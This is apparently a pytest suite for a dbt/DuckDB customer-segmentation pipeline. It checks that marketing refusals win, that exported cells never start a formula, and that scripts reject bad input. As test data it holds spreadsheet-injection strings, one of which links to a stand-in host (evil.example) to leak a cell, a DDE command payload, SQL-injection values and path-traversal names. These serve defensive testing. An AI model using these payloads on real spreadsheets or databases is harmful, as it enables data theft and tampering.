"""Hostile and careless input (issue 14): a refusal of marketing always wins, no var or cell reaches SQL or a
spreadsheet unchecked, no amount stops a build, and every script answers a bad option or file with one
`error:` line and exit 2, changing nothing.

One small workspace (a few demo customers plus hostile ones) is built once per module and reused; tests
that must change data work on clones. Property tests are derandomised and run few examples, so CI stays fast.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path

import duckdb
import pytest
import yaml
from conftest import DIRTY_VARS, HYPOTHESIS_SEED, MESSY_VARS, PROJECT_DIR, SEEDS_DIR, TODAY, Workspace, generate_demo
from engines import ENGINES, OTHER_ENGINES, engine_workspace
from hypothesis import HealthCheck, Phase, example, given, seed, settings
from hypothesis import strategies as st
from oracle import CUSTOMER_COLUMNS, ORDER_COLUMNS, Row, expected_rejects, normalise_email, parse_bool

SCRIPTS = PROJECT_DIR / "scripts"
# No shrinking: an example is a dbt run, and the failing input is printed as it is. A few examples a run, the
# same ones every run (the seed of conftest.HYPOTHESIS_SEED; RFM_HYPOTHESIS_SEED explores others).
PROPERTY_SETTINGS = settings(max_examples=3, deadline=None, database=None, phases=[Phase.explicit, Phase.generate],
                             suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def PROPERTY(test):  # noqa: ANN001, ANN201, N802 (a hypothesis test, used as a decorator like settings)
    return seed(HYPOTHESIS_SEED)(PROPERTY_SETTINGS(test))
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3", "\tx", "\rx")
# Reproductions of the issue: refusals written with look-alike addresses or on rejected records.
HOSTILE_CUSTOMERS: list[Row] = [
    {"customer_id": "N1", "email": "nbsp@x.com\u00a0", "accepts_marketing": "yes"},
    {"customer_id": "N2", "email": "nbsp@x.com", "accepts_marketing": "no"},
    {"customer_id": "P1", "email": "priv1@x.com", "created_at": "not-a-date", "accepts_marketing": "no"},
    {"customer_id": "P2", "email": "priv1@x.com", "accepts_marketing": "yes"},
    {"customer_id": "D1", "email": "dup@x.com", "first_name": "A", "accepts_marketing": "no"},
    {"customer_id": "D1", "email": "dup@x.com", "first_name": "B", "accepts_marketing": "no"},
    {"customer_id": "D2", "email": "DUP@x.com", "accepts_marketing": "yes"},
    {"customer_id": "W1", "email": "ｗｉｄｅ＠x.com", "accepts_marketing": "false"},
    {"customer_id": "W2", "email": "Wide@X.com\u3000", "accepts_marketing": "true"},
    *({"customer_id": f"F{i}", "email": f"f{i}@x.com", "first_name": name, "accepts_marketing": "yes"}
      for i, name in enumerate(FORMULAS)),
    {"customer_id": "F9", "email": "@sum(1+1)@x.com", "accepts_marketing": "yes"},
]
HOSTILE_ORDERS: list[Row] = [
    {"order_id": f"H{i}", "customer_id": row["customer_id"], "ordered_at": "2026-06-01", "order_total": "10"}
    for i, row in enumerate(HOSTILE_CUSTOMERS)
] + [
    {"order_id": "BIG1", "customer_id": "N1", "ordered_at": "2026-06-01", "order_total": "12345678901"},
    {"order_id": "BIG2", "customer_id": "N1", "ordered_at": "2026-06-01", "order_total": "999999999999.99"},
]


def read_csv(path: Path) -> list[Row]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def write_csv(path: Path, rows: list[Row], columns: tuple[str, ...]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(columns)
        writer.writerows([["" if row.get(c) is None else row[c] for c in columns] for row in rows])
    return path


def fingerprint(ws: Workspace) -> dict[str, tuple]:
    """Every table and view of the workspace with its row count and an order-free hash of its rows."""
    with duckdb.connect(str(ws.db_path), read_only=True) as con:
        tables = con.execute("select schema_name, table_name from duckdb_tables() where database_name = 'rfm'"
                             " order by all").fetchall()
        return {f"{s}.{t}": con.execute(f'select count(*), bit_xor(hash(r)) from "{s}"."{t}" as r').fetchone()
                for s, t in tables}


def refused(customers: list[Row]) -> set[str]:
    """Addresses some raw record refused, by the oracle's normalisation (docs/rules.md section 4)."""
    return {normalise_email(r.get("email")) for r in customers
            if parse_bool((r.get("accepts_marketing") or "").strip() or None) is False} - {None}


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """A few demo customers and the hostile ones, loaded and built once."""
    root = tmp_path_factory.mktemp("hostile")
    demo = generate_demo(root / "demo", "--customers", "60")
    ws = Workspace(root / "ws")
    ws.load(write_csv(root / "orders.csv", read_csv(demo.orders) + HOSTILE_ORDERS, ORDER_COLUMNS),
            write_csv(root / "customers.csv", read_csv(demo.customers) + HOSTILE_CUSTOMERS, CUSTOMER_COLUMNS))
    ws.dbt("build", vars=DIRTY_VARS)
    return ws


def run_script(name: str, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, str(SCRIPTS / name), *args], cwd=PROJECT_DIR, env=env,
                          capture_output=True, text=True, timeout=300)


def assert_user_error(proc: subprocess.CompletedProcess[str], *words: str) -> None:
    """Exit 2, no traceback, and exactly one `error:` line on stderr, holding `words`."""
    errors = [line for line in proc.stderr.splitlines() if line.startswith("error:")]
    assert proc.returncode == 2 and "Traceback" not in proc.stderr and len(errors) == 1, (proc.returncode, proc.stderr)
    assert all(word in errors[0] for word in words), errors[0]


# ---------------------------------------------------------------------------------------- consent (§4)


def test_a_refusal_on_any_record_keeps_the_address_out_of_audiences_and_exports(built: Workspace, tmp_path: Path) -> None:
    members = {row[0] for row in built.query("select distinct email from main.audience_members")}
    assert not members & refused(HOSTILE_CUSTOMERS), members & refused(HOSTILE_CUSTOMERS)
    assert {"nbsp@x.com", "priv1@x.com", "dup@x.com", "wide@x.com"} <= refused(HOSTILE_CUSTOMERS)
    consent = dict(built.query("select customer_id, accepts_marketing from main.int_customers_deduplicated"
                               " where customer_id in ('N1', 'N2', 'P2', 'D2', 'W1', 'W2')"))
    assert set(consent.values()) == {False}, consent  # merged (N, W) or not (P2, D2): refused either way

    proc = run_script("export_audiences.py", "--segmentation", "lifecycle", "--out", str(tmp_path),
                      "--export-date", "2026-11-25", env=built.env)
    assert proc.returncode == 0, proc.stderr
    folder = tmp_path / "lifecycle"
    exported = {row["email"].lstrip("'") for f in folder.glob("*.csv") for row in read_csv(f)}
    assert exported and not exported & refused(HOSTILE_CUSTOMERS)
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert "never exported" in manifest["rules"]["consent"]

    proc = run_script("export_audiences.py", "--segmentation", "flows", "--out", str(tmp_path),
                      "--export-date", "2026-11-25", env=built.env)
    assert proc.returncode == 0, proc.stderr
    flow_exported = {row["email"].lstrip("'") for f in (tmp_path / "flows").glob("*.csv") for row in read_csv(f)}
    assert not {normalise_email(email) for email in flow_exported} & refused(HOSTILE_CUSTOMERS)


def test_export_cells_never_start_a_formula(built: Workspace, tmp_path: Path) -> None:
    proc = run_script("export_audiences.py", "--segmentation", "lifecycle", "--out", str(tmp_path),
                      "--export-date", "2026-11-25", env=built.env)
    assert proc.returncode == 0, proc.stderr
    cells = [cell for f in (tmp_path / "lifecycle").glob("*.csv") for row in read_csv(f) for cell in row.values()]
    assert "'" + FORMULAS[0] in cells and "'@sum(1+1)@x.com" in cells  # kept, but shown as text
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_export_writes_only_under_its_folder_and_checks_the_manifest(built: Workspace, tmp_path: Path) -> None:
    out = tmp_path / "a" / "b" / "c"
    (out / "lifecycle").mkdir(parents=True)
    manifest = {"export_date": "2026-01-01", "segments": {"../../../evil": {"rows": 1}}}
    (out / "lifecycle" / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    args = ("--segmentation", "lifecycle", "--out", str(out), "--replace", "--export-date", "2026-11-25")
    assert_user_error(run_script("export_audiences.py", *args, env=built.env), "../../../evil")
    assert not list(tmp_path.rglob("evil*"))
    for bad in ({"export_date": "2026-01-01", "segments": {"lost": {"rows": "abc"}}}, [], {"segments": {}}):
        (out / "lifecycle" / "manifest.json").write_text(json.dumps(bad), encoding="utf-8")
        assert_user_error(run_script("export_audiences.py", *args, env=built.env), "manifest")


# ---------------------------------------------------------------------------------------- amounts (§3)


def test_huge_amounts_are_rejected_as_absurd_not_a_build_error(built: Workspace) -> None:
    reasons = dict(built.query("select raw_key, rejection_reason from main.data_quality_rejects where source = 'orders'"
                               " and raw_key in ('BIG1', 'BIG2')"))
    assert reasons == {"BIG1": "absurd_order_total", "BIG2": "absurd_order_total"}


# ------------------------------------------------------------------------------------------ vars and SQL


def project_vars() -> dict[str, object]:
    return yaml.safe_load((PROJECT_DIR / "dbt_project.yml").read_text(encoding="utf-8"))["vars"]


HOSTILE_VAR = "raw\"; create table main.injected as select 42 as pwned; --'"


def test_sql_injection_through_the_raw_schema_var(built: Workspace) -> None:
    before = fingerprint(built)
    payload = ('raw"."orders" ) select * from source ); create table main.injected as select 42 as pwned; '
               'create view main.injected_v as ( with source as ( select * from "v"."raw')
    proc = built.dbt("run", "--select", "stg_raw__orders", vars={"rfm_raw_schema": payload}, expect_ok=False)
    assert proc.returncode != 0 and "var rfm_raw_schema must be a schema name" in proc.stdout, proc.stdout[-2000:]
    assert fingerprint(built) == before


@pytest.mark.parametrize("name", list(project_vars()))
def test_a_hostile_value_of_every_var_is_one_line_and_changes_nothing(built: Workspace, name: str) -> None:
    """Every var of dbt_project.yml (new ones included, automatically): `dbt build` stops before any node
    runs, with one line naming the var."""
    before = fingerprint(built)
    proc = built.dbt("build", vars={name: HOSTILE_VAR}, expect_ok=False)
    lines = [line for line in proc.stdout.splitlines() if f"var {name} " in line]
    assert proc.returncode != 0 and len(lines) == 1, proc.stdout[-3000:]
    assert "Traceback" not in proc.stdout + proc.stderr
    assert fingerprint(built) == before, f"var {name}: the database changed"


# ------------------------------------------------------------------------------------ property: consent

SPACES = ("\u00a0", "\u2003", "\u3000", "\u200b", "\ufeff", " ", "\t", "\u202f")


def full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" and c not in "'\\" else c for c in text)


@st.composite
def email_variant(draw: st.DrawFn) -> str:
    """One of two addresses, written the ways people and exports do: case, Unicode spaces, full width."""
    text = draw(st.sampled_from(["ann@x.com", "bob.smith@y.org"]))
    text = "".join(c.upper() if draw(st.booleans()) else c for c in text)
    if draw(st.booleans()):
        text = full_width(text)
    return draw(st.sampled_from(SPACES + ("",))) + text + draw(st.sampled_from(SPACES + ("",)))


CONSENT_CUSTOMERS = st.lists(st.fixed_dictionaries({
    "customer_id": st.sampled_from(["c1", "c2", "c3", "c4", "c5", "c6"]),
    "email": email_variant(),
    # an unparseable created_at rejects the record: its refusal must count all the same
    "created_at": st.sampled_from(["2025-01-01", "2025-02-01", None, "not-a-date"]),
    "accepts_marketing": st.sampled_from(["yes", "no", "TRUE", "false", "0", "1", "maybe", None]),
}), min_size=1, max_size=8)


# The engine stage of scripts/test.sh runs it on its engine only: the DuckDB stage has run it on DuckDB.
@pytest.fixture(scope="module", params=OTHER_ENGINES or ENGINES)
def engine_ws(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    with engine_workspace(request.param, tmp_path_factory.mktemp(f"consent_{request.param}")) as ws:
        ws.dbt("seed")  # once: the examples only run the models
        yield ws


@PROPERTY
@given(customers=CONSENT_CUSTOMERS, appended=st.integers(0, 7))
def test_no_refused_address_is_ever_an_audience_member(engine_ws: Workspace, customers: list[Row],
                                                       appended: int) -> None:
    """Random customers with variants of two addresses and every kind of consent, on accepted, duplicate,
    rejected and superseded records (the last `appended` come in a later load, `--append`: they replace the
    earlier records of their ids): audience_members never holds an address any record refused, and a flow's
    audience (treated or holdout) never has it consenting (on each engine of RFM_TEST_ENGINES: `bash
    scripts/test.sh postgres` runs it on PostgreSQL too)."""
    orders = [{"order_id": f"o{i}", "customer_id": f"c{i}", "ordered_at": "2026-06-01", "order_total": "10"}
              for i in range(1, 7)]
    first = max(1, len(customers) - appended)
    engine_ws.load(orders, customers[:first])
    if first < len(customers):
        engine_ws.load([], customers[first:], "--append")
    engine_ws.dbt("run", "--select", "+audience_members", "+campaign_flow_audience")
    members = {row["email"] for row in engine_ws.read_table("main", "audience_members")}
    assert not members & refused(customers), (members & refused(customers), customers)
    assert all(normalise_email(email) == email for email in members), members
    # the flows' export sends only to consenting customers, holdout or not (export_audiences.MEMBERS_SQL)
    flow_members = [row for row in engine_ws.read_table("main", "campaign_flow_audience")
                    if normalise_email(row["email"]) in refused(customers)]
    assert not any(row["accepts_marketing"] for row in flow_members), flow_members


# ------------------------------------------------------------------------------------ property: amounts

DIGITS = st.text(st.sampled_from("0123456789"), max_size=40)
AMOUNT_TEXT = st.one_of(
    st.tuples(st.sampled_from(["", "+", "-", "--", "−", " "]), DIGITS,
              st.sampled_from(["", ".", ",", "..", "_"]), DIGITS,
              st.sampled_from(["", "e5", "E-300", "e999999", "%", "\u00a0", " EUR"])).map("".join),
    st.text(st.sampled_from("0123456789.-+eE, ٠١٢３４\u00a0"), max_size=60),
    st.sampled_from(["12345678901", "999999999999.99", "9" * 15 + ".995", "9" * 16, "1" + "0" * 100,
                     "0." + "0" * 100 + "1", "-" + "9" * 38, "NaN", "inf", "1e308"]),
)


@pytest.fixture(scope="module")
def amounts_ws(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    return Workspace(tmp_path_factory.mktemp("amounts"))


@PROPERTY
@given(amounts=st.lists(AMOUNT_TEXT, min_size=1, max_size=25))
@example(amounts=["12345678901", "999999999999.99", "-" + "9" * 15])  # each stopped every build once
def test_any_amount_is_parsed_or_rejected_never_a_build_error(amounts_ws: Workspace, amounts: list[str]) -> None:
    """Random amount strings (any length, signs, exponents, separators, scripts) through `dbt build` with
    its reconciliation tests: it succeeds, and every row is accepted or rejected as the oracle says."""
    orders = [{"order_id": f"o{i}", "customer_id": "c1", "ordered_at": "2026-06-01", "order_total": amount}
              for i, amount in enumerate(amounts)] + [
        {"order_id": "ok", "customer_id": "c1", "ordered_at": "2026-06-01", "order_total": "1"}]
    customers = [{"customer_id": "c1", "email": "a@x.com"}]
    amounts_ws.load(orders, customers)
    # mostly rejects on purpose: the share limits are not what this checks
    proc = amounts_ws.dbt("build", "--select", "+customer_rfm +data_quality_summary +data_quality_rejects",
                          "--indirect-selection", "cautious", vars=MESSY_VARS, expect_ok=False)
    assert proc.returncode == 0, proc.stdout[-3000:]
    rejects = Counter(amounts_ws.query("select source, raw_key, rejection_reason from main.data_quality_rejects"))
    assert rejects == Counter(expected_rejects(orders, customers, seeds_dir=SEEDS_DIR, today=TODAY))
    (accepted,) = amounts_ws.query("select count(*) from main.int_orders_validated where rejection_reason is null")[0]
    assert accepted + sum(rejects.values()) == len(orders)


# ---------------------------------------------------------------------------------------------- loader


def test_loader_rejects_long_lines_corrupt_files_long_names_and_non_database_targets(built: Workspace,
                                                                                     tmp_path: Path) -> None:
    ws = built.clone(tmp_path / "ws")
    before = fingerprint(ws)
    customers = write_csv(tmp_path / "customers.csv", HOSTILE_CUSTOMERS, CUSTOMER_COLUMNS)
    good = ["order_id,customer_id,ordered_at,order_total", *(f"o{i},c1,2026-01-01,1" for i in range(5))]
    long_line = "o9,c1,2026-01-01," + "9" * 2_000_000

    def orders_file(name: str, lines: list[str], end: str = "\n") -> Path:
        path = tmp_path / name
        path.write_text("\n".join(lines) + end, encoding="utf-8")
        return path

    def load(orders: Path | str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
        return run_script("load_raw.py", "--orders", str(orders), "--customers", str(customers), env=env or ws.env)

    assert_user_error(load(orders_file("middle.csv", good[:3] + [long_line] + good[3:])), "middle.csv, line 4",
                      "longer than")
    # a last line far over DuckDB's own limit, without a final line break: DuckDB alone dropped it silently
    assert_user_error(load(orders_file("last.csv", good + ["o9,c1,2026-01-01," + "9" * 40_000_000], "")),
                      "last.csv, line 7", "longer than")
    (tmp_path / "corrupt.parquet").write_bytes(b"PAR1garbagePAR1")
    assert_user_error(load(tmp_path / "corrupt.parquet"), "corrupt.parquet", "not a valid Parquet file")
    assert_user_error(load(tmp_path / ("o" * 300 + ".csv")), "cannot read")
    for name in ("notadb.csv", "notadb.parquet"):
        fake = orders_file(name, good)
        proc = load(orders_file("ok.csv", good), env={**ws.env, "RFM_DUCKDB_PATH": str(fake)})
        assert_user_error(proc, name, "not a DuckDB database")
        assert fake.read_text(encoding="utf-8").startswith("order_id")
    assert fingerprint(ws) == before


# ------------------------------------------------------------------------------------- scripts: errors


def test_script_reproductions_are_one_line_errors(built: Workspace, tmp_path: Path) -> None:
    a_file = tmp_path / "a_file"
    a_file.write_text("x", encoding="utf-8")
    export = ("export_audiences.py", "--segmentation", "rfm", "--export-date", "2026-11-25")
    for out in (a_file, a_file / "under"):
        assert_user_error(run_script(*export, "--out", str(out), env=built.env), str(a_file))
    assert_user_error(run_script("report.py", "--out", str(tmp_path), env=built.env), "is a folder")
    wrong = tmp_path / "wrong.duckdb"
    with duckdb.connect(str(wrong)) as con:
        for table in ("customer_rfm", "rfm_segment_summary", "rfm_segment_map", "data_quality_summary"):
            con.execute(f"create table {table} (nonsense integer)")
    assert_user_error(run_script("report.py", "--database", str(wrong), "--out", str(tmp_path / "r.html")), "wrong.duckdb")
    generate = ("generate_demo_data.py", "--out")
    assert_user_error(run_script(*generate, str(tmp_path / "g"), "--years", "1000000000"), "--years")
    assert_user_error(run_script(*generate, str(tmp_path / "g"), "--end-date", "0001-01-01"), "--end-date")
    assert_user_error(run_script(*generate, str(a_file)), str(a_file))
    assert not (tmp_path / "g").exists()


def test_kmeans_help_without_the_analysis_libraries(tmp_path: Path) -> None:
    blocked = tmp_path / "blocked"
    for name in ("matplotlib", "sklearn", "numpy", "scipy"):
        (blocked / name).mkdir(parents=True)
        (blocked / name / "__init__.py").write_text(f"raise ImportError('blocked', name='{name}')\n", encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(blocked)}
    proc = run_script("kmeans_segments.py", "--help", env=env)
    assert proc.returncode == 0 and "--out" in proc.stdout, proc.stderr
    assert_user_error(run_script("kmeans_segments.py", env=env), "is not installed")


# ---------------------------------------------------------------------------------------- scripts: fuzz


@pytest.fixture(scope="module")
def fuzz_files(tmp_path_factory: pytest.TempPathFactory, built: Workspace) -> dict[str, Path]:
    """Input and output paths a careless or hostile user passes: good ones among them."""
    root = tmp_path_factory.mktemp("fuzz")
    files = {
        "good_orders": write_csv(root / "orders.csv", HOSTILE_ORDERS, ORDER_COLUMNS),
        "good_customers": write_csv(root / "customers.csv", HOSTILE_CUSTOMERS, CUSTOMER_COLUMNS),
        "empty": root / "empty.csv", "garbage": root / "garbage.csv", "latin1": root / "latin1.csv",
        "corrupt_parquet": root / "corrupt.parquet", "gz_not_gz": root / "fake.csv.gz", "folder": root / "folder",
        "missing": root / "missing.csv", "long_name": root / ("x" * 300 + ".csv"), "under_file": root / "orders.csv" / "x",
        "unwritable": Path("/proc/nope/out"), "traversal": root / ".." / ".." / "nowhere" / "x.csv",
        "wrong_duckdb": root / "wrong.duckdb", "built_duckdb": built.db_path, "new_dir": root / "new",
        # a segment map whose codes a CSV must quote, and files named as YAML and URLs must escape
        "hostile_map": root / "map.csv", "odd_name_duckdb": root / "we\"ird: #'x\\.duckdb",
        "query_name_duckdb": root / "a?b.duckdb", "bundle_zip": root / "bundle.zip",
    }
    files["empty"].write_bytes(b"")
    files["garbage"].write_bytes(bytes(range(256)) * 40)
    files["latin1"].write_bytes("order_id,customer_id,ordered_at,order_total\no1,Zo\xe9,2026-01-01,1\n".encode("latin-1"))
    files["corrupt_parquet"].write_bytes(b"PAR1garbagePAR1")
    files["gz_not_gz"].write_bytes(b"order_id\n1\n")
    files["folder"].mkdir()
    with duckdb.connect(str(files["wrong_duckdb"])) as con:
        con.execute("create table customer_rfm (x integer)")
    hostile_codes = {"champions": '=HYPERLINK("http://evil.example","x")', "lost": 'a,"b\nc'}
    with (SEEDS_DIR / "rfm_segment_map.csv").open(newline="", encoding="utf-8") as fh:
        rows = [{**row, "segment_code": hostile_codes.get(row["segment_code"], row["segment_code"])}
                for row in csv.DictReader(fh)]
    write_csv(files["hostile_map"], rows, tuple(rows[0]))
    for name in ("odd_name_duckdb", "query_name_duckdb"):
        files[name].touch()  # the bundle only names the file
    return {name: Path(path) for name, path in files.items()}


PATHS = st.sampled_from(["good_orders", "good_customers", "empty", "garbage", "latin1", "corrupt_parquet", "gz_not_gz",
                         "folder", "missing", "long_name", "under_file", "unwritable", "traversal", "wrong_duckdb",
                         "built_duckdb", "new_dir"])
NUMBERS = st.sampled_from(["0", "-1", "1", "7", "1000000000000", "nan", "inf", "x", "", "1e3", "٣"])
DATES = st.sampled_from(["2026-06-30", "0001-01-01", "2026-02-30", "9999-12-31", "x", ""])
# a segment map (derive_segment_map.py --map, rewritten on success) and a marts database (superset_bundle.py)
MAPS = st.sampled_from(["hostile_map", "hostile_map", "good_orders", "empty", "garbage", "latin1", "corrupt_parquet",
                        "folder", "missing", "long_name", "under_file", "built_duckdb"])
DATABASES = st.sampled_from(["odd_name_duckdb", "odd_name_duckdb", "query_name_duckdb", "built_duckdb", "folder",
                             "missing", "long_name", "garbage"])
ZIPS = st.sampled_from(["bundle_zip", "bundle_zip", "folder", "under_file", "unwritable", "traversal", "long_name"])
WORDS = st.sampled_from(["raw", 'a"b', "x'; drop table raw.orders; --", "", "../..", "nope", "\t"])
# script -> its options and what to draw for each (a path is resolved against the fuzz files)
OPTIONS: dict[str, dict[str, st.SearchStrategy]] = {
    "load_raw.py": {"--orders": PATHS, "--customers": PATHS, "--email-events": PATHS, "--schema": WORDS,
                    "--delimiter": WORDS, "--target": WORDS},
    "export_audiences.py": {"--segmentation": st.sampled_from(["rfm", "lifecycle", "../x"]), "--out": PATHS,
                            "--export-date": DATES, "--max-change": NUMBERS, "--target": WORDS,
                            "--database": PATHS, "--schema": WORDS},
    "report.py": {"--out": PATHS, "--database": PATHS, "--schema": WORDS, "--screenshot-size": NUMBERS,
                  "--target": WORDS},
    "generate_demo_data.py": {"--out": PATHS, "--customers": NUMBERS, "--orders": NUMBERS, "--years": NUMBERS,
                              "--end-date": DATES, "--dirty-share": NUMBERS, "--format": WORDS},
    "generate_email_events.py": {"--customers": PATHS, "--out": PATHS, "--days": NUMBERS, "--end-date": DATES},
    "kmeans_segments.py": {"--out": PATHS, "--database": PATHS, "--k-min": NUMBERS, "--k-max": NUMBERS,
                           "--schema": WORDS},
    "derive_segment_map.py": {"--levels": st.sampled_from(["3", "5", "4", "1", "10", "x", ""]), "--map": MAPS,
                              "--stdout": st.just("")},
    "superset_bundle.py": {"--out": ZIPS, "--database": DATABASES, "--target": WORDS, "--profiles-dir": PATHS},
}
# options without a value (their strategy is never drawn)
FLAGS = {"--stdout"}


def check_derived_map(args: list[str], proc: subprocess.CompletedProcess[str]) -> None:
    """The map written (or printed) holds the quartile map's codes exactly: CSV-quoted, never split or run."""
    text = proc.stdout if "--stdout" in args else Path(args[args.index("--map") + 1]).read_text(encoding="utf-8")
    codes = {row["segment_code"] for row in csv.DictReader(text.splitlines(keepends=True))}
    assert {'=HYPERLINK("http://evil.example","x")', 'a,"b\nc', "loyal"} <= codes, codes


def check_bundle(args: list[str], proc: subprocess.CompletedProcess[str]) -> None:
    """The zip's database points at the marts file by its exact name: escaped in YAML, whole in the URL."""
    database = Path(args[args.index("--database") + 1]) if "--database" in args else None
    with zipfile.ZipFile(args[args.index("--out") + 1]) as bundle:
        texts = {name: bundle.read(name).decode("utf-8") for name in bundle.namelist()}
    uri = yaml.safe_load(texts["rfm_dashboards/databases/rfm_marts.yaml"])["sqlalchemy_uri"]
    assert uri.startswith("duckdb:///") and uri.endswith("?access_mode=read_only"), uri
    if database is not None:
        assert uri == f"duckdb:///{database.resolve()}?access_mode=read_only", uri
    assert all(yaml.safe_load(text) for text in texts.values())


# cases run besides the random ones, with their exit code: output checks and errors the draws may miss
ALWAYS_RUN: dict[str, list[tuple[list[str], int]]] = {
    "derive_segment_map.py": [(["--levels", "5", "--map", "hostile_map"], 0), (["--levels", "3", "--stdout"], 0),
                              (["--levels", "3", "--map", "garbage"], 2), (["--levels", "3", "--map", "latin1"], 2)],
    "superset_bundle.py": [(["--out", "bundle_zip", "--database", "odd_name_duckdb"], 0),
                           (["--out", "bundle_zip", "--database", "query_name_duckdb"], 2)],
}
# what a successful run must have written, beyond exit 0
CHECK_OUTPUT: dict[str, Callable[[list[str], subprocess.CompletedProcess[str]], None]] = {
    "derive_segment_map.py": check_derived_map,
    "superset_bundle.py": check_bundle,
}


@st.composite
def invocation(draw: st.DrawFn, script: str) -> list[str]:
    options = OPTIONS[script]
    chosen = draw(st.lists(st.sampled_from(sorted(options)), unique=True, min_size=1))
    return [part for name in chosen for part in ((name,) if name in FLAGS else (name, draw(options[name])))]


@pytest.mark.parametrize("script", sorted(OPTIONS))
def test_fuzzed_options_and_files_exit_0_or_one_line_and_change_nothing(
    script: str, built: Workspace, fuzz_files: dict[str, Path], tmp_path: Path
) -> None:
    """Every script under random options and input files (paths, contents, sizes): exit 0, or exit 2 with
    one `error:` line; never a traceback; on failure the raw tables and marts are as they were."""
    ws = built.clone(tmp_path / "ws")

    def check(args: list[str]) -> int:
        resolved = [str(fuzz_files[a]) if a in fuzz_files else a for a in args]
        # only a small generated demo, ever: never the default 2,000 customers or 100 years
        if script == "generate_demo_data.py" and "--customers" not in args:
            resolved += ["--customers", "5"]
        # never the project's own seed
        if script == "derive_segment_map.py" and "--map" not in args:
            resolved += ["--map", str(fuzz_files["hostile_map"])]
        before = fingerprint(ws)
        proc = run_script(script, *resolved, env=ws.env)
        assert "Traceback" not in proc.stderr, (args, proc.stderr[-2000:])
        if proc.returncode != 0:
            assert_user_error(proc)
            assert fingerprint(ws) == before, args
        elif script in CHECK_OUTPUT:
            CHECK_OUTPUT[script](resolved, proc)
        return proc.returncode

    @PROPERTY
    @given(args=invocation(script))
    def fuzz(args: list[str]) -> None:
        check(args)

    # the cases whose outputs are checked, every run: random draws rarely succeed
    for args, code in ALWAYS_RUN.get(script, []):
        assert check(args) == code, args
    fuzz()


def test_benchmark_options_are_checked_before_any_work(tmp_path: Path) -> None:
    """The benchmark is never run here: only options that must fail before it starts, and --help."""
    assert run_script("benchmark.py", "--help").returncode == 0
    a_file = tmp_path / "a_file"
    a_file.write_text("x", encoding="utf-8")
    work = ("--work", str(tmp_path / "work"))
    for args in (["--sizes", "x", *work], ["--sizes", "10", *work], ["--seed", "-1", *work], ["--big", "-5", *work],
                 ["--daily-share", "nan", *work], ["--dirty-share", "0", *work], ["--history-periods", "x", *work],
                 ["--out", str(tmp_path), *work],
                 ["--work", str(a_file), "--out", str(tmp_path / "b.md")], ["--nope", *work]):
        assert_user_error(run_script("benchmark.py", *args))
    assert not (tmp_path / "work").exists()


# ------------------------------------------------------------------------------------ email normalisation


def test_email_normalisation_sql_matches_the_oracle(tmp_path: Path) -> None:
    """rfm_normalize_email (one translate and lower, no dispatch: the same SQL on every engine) gives the
    oracle's normalise_email on every mix of case, full width, Unicode spaces and the text corpus."""
    from test_text_parsing import KEPT_SPACES, PADS, python_corpus

    ws = Workspace(tmp_path / "ws")
    out = ws.dbt("compile", "--inline", "select {{ rfm_normalize_email('v') }}", "--output", "json", "--quiet").stdout
    sql = json.loads(out[out.index("{"):])["compiled"]
    bases = ["Ann@X.com", "o'neil@x.com", "a\\b@x.com", "ZOË@x.com", "a b@x.com", " ", ""]
    values = [pad + text + pad2 for text in bases + [full_width(b) for b in bases] for pad in PADS for pad2 in KEPT_SPACES]
    values += python_corpus()[::7] + [None]
    with duckdb.connect() as con:
        con.execute("create table corpus as select unnest(?::varchar[]) as v", [values])
        found = con.execute(f"select v, ({sql.strip()}) from corpus").fetchall()
    mismatches = [(v, got, normalise_email(v)) for v, got in found if got != normalise_email(v)]
    assert not mismatches, f"{len(mismatches)} differ, first: {mismatches[:5]}"
